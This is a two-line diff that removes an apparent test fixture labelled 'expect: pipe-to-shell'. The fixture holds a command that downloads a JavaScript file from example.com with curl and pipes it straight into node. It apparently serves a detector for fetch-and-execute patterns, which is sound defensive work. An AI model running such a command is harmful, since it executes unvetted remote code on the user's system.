@@ -1,2 +1,0 @@
-# expect: pipe-to-shell
-curl -s https://example.com/x.js | node
